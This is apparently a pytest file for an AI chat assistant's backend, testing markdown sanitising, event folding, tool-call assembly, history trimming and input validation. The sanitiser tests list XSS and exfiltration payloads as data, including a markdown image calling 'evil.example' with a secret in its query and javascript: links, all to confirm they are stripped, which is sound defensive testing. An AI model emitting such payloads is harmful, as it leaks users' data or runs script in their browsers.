"""The parts that need no database: text safety, putting pieces together, folding events, trimming history."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copilot.conversation import Conversation, fold
from copilot.deltas import CallPart, Calls
from copilot.history import trimmed, turns_of
from copilot.markdown import to_html
from copilot.messages import read
from copilot.recorder import joined
from copilot.stream import Entry
from iotsim.core.errors import IotsimError


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("![chart](https://evil.example/?d=secret)", "<img"),
        ('<img src="https://evil.example/x.png">', "<img"),
        ("<script>alert(1)</script>", "<script"),
        ("[click](javascript:alert(1))", "href"),
        ("[click](data:text/html,x)", "href"),
        ("<a href='x' onclick='y'>z</a>", "<a"),
        ("[![a](https://evil.example/a.png)](https://evil.example)", "<img"),
        ("<iframe src=x></iframe>", "<iframe"),
        ("<style>*{display:none}</style>", "<style"),
    ],
)
def test_markdown_lets_nothing_through_that_loads_or_runs(text, never):
    assert never not in to_html(text)


def test_a_link_says_where_it_leads():
    html = to_html("[your report](https://evil.example/?d=1)")
    assert "your report (https://evil.example/?d=1)</a>" in html


def test_markdown_is_rendered():
    assert "<strong>42</strong>" in to_html("**42** SIMs")
    assert "<td>a</td>" in to_html("|x|\n|-|\n|a|")


@given(st.text(max_size=300))
def test_any_text_becomes_html_without_script_or_image(text):
    html = to_html(text).lower()
    assert "<script" not in html and "<img" not in html


def event(kind, **fields):
    return {"type": kind, **fields}


EVENTS = [
    event("TEXT_MESSAGE_CHUNK", messageId="u1", role="user", delta="Hello"),
    event("RUN_STARTED", threadId="1", runId="1"),
    event("TEXT_MESSAGE_START", messageId="m1-1", role="assistant"),
    event("TEXT_MESSAGE_CONTENT", messageId="m1-1", delta="Hel", metadata={"offset": 0}),
    event("TEXT_MESSAGE_CONTENT", messageId="m1-1", delta="lo ", metadata={"offset": 3}),
    event("TEXT_MESSAGE_CONTENT", messageId="m1-1", delta="you", metadata={"offset": 6}),
    event("TEXT_MESSAGE_END", messageId="m1-1"),
    event("TOOL_CALL_START", toolCallId="c1", toolCallName="find_sims", parentMessageId="m1-1"),
    event("TOOL_CALL_ARGS", toolCallId="c1", delta='{"limit":'),
    event("TOOL_CALL_ARGS", toolCallId="c1", delta=" 1}"),
    event("TOOL_CALL_END", toolCallId="c1"),
    event("TOOL_CALL_RESULT", toolCallId="c1", messageId="tc1", content="{}", metadata={"state": "done"}),
    event("RUN_FINISHED", threadId="1", runId="1"),
]
NUMBERED = list(enumerate(EVENTS, start=1))


def seen(conversation):
    return [(one.id, one.kind, one.data) for one in conversation.items.values()], conversation.running


def test_events_become_a_conversation():
    conversation = fold(NUMBERED)
    items, running = seen(conversation)
    assert [(one[0], one[1]) for one in items] == [("u1", "said"), ("m1-1", "answer"), ("c1", "call")]
    assert items[1][2]["text"] == "Hello you"
    assert items[2][2]["arguments"] == '{"limit": 1}' and items[2][2]["state"] == "done"
    assert not running and conversation.status == "Done"


@given(st.lists(st.integers(min_value=0, max_value=len(NUMBERED) - 1), max_size=60))
def test_an_event_applied_twice_changes_nothing(repeats):
    conversation = Conversation()
    for seq, one in NUMBERED:
        conversation.apply(seq, one)
        for place in repeats:
            if NUMBERED[place][0] <= seq:
                conversation.apply(*NUMBERED[place])
    assert seen(conversation) == seen(fold(NUMBERED))


@given(st.integers(min_value=3, max_value=6))
def test_a_reader_in_the_middle_of_a_text_goes_on_with_the_joined_row(known):
    """The stream brings pieces, the rows bring them joined: whoever knows some pieces gets the whole once."""
    conversation = fold(NUMBERED[:known])
    rows = joined([Entry(seq, seq, one) for seq, one in NUMBERED])
    assert len(rows) == len(NUMBERED) - 2
    for row in rows:
        conversation.apply(row.seq, row.payload)
    assert seen(conversation) == seen(fold(NUMBERED))


def test_pieces_of_calls_are_kept_apart_by_id_and_by_number():
    calls = Calls()
    for part in [
        CallPart(0, "a", "f", '{"x"'),
        CallPart(1, "b", "g", '{"y"'),
        CallPart(0, arguments=": 1}"),
        CallPart(1, arguments=": 2}"),
    ]:
        calls.add(part)
    assert [(one.name, one.read()) for one in calls.found] == [("f", {"x": 1}), ("g", {"y": 2})]


def test_a_call_without_a_result_gets_a_cancelled_one():
    turns = turns_of(EVENTS[:-2])
    assert [one["role"] for one in turns[0]] == ["user", "assistant", "tool"]
    assert "cancelled" in turns[0][2]["content"]


def test_history_is_trimmed_by_whole_turns():
    turns = [[{"role": "user", "content": "x" * 400}, {"role": "assistant", "content": "y"}] for _ in range(10)]
    kept = trimmed(turns, tokens=300)
    assert kept[0]["role"] == "user" and len(kept) == 4
    assert trimmed(turns, tokens=1) == turns[-1]


@pytest.mark.parametrize(
    "text",
    ["", "not json", "[]", "null", "{}", '{"type": "nonsense"}', '{"type": "open", "thread": "x"}', "[" * 5000,
     '{"type": "ask"}', '{"type": "ask", "text": 7}', '{"type": "decide", "approval": -1, "decision": "approve"}',
     '{"type": "decide", "approval": 1, "decision": "maybe"}', '{"type": "ask", "text": "' + "x" * 70_000 + '"}'],
)  # fmt: skip
def test_garbage_is_answered_with_a_sentence(text):
    with pytest.raises(IotsimError) as refused:
        read(text, None)
    assert refused.value.sentence.endswith(".")


def test_bytes_are_answered_with_a_sentence():
    with pytest.raises(IotsimError, match="text"):
        read(None, b"\x00\x01")
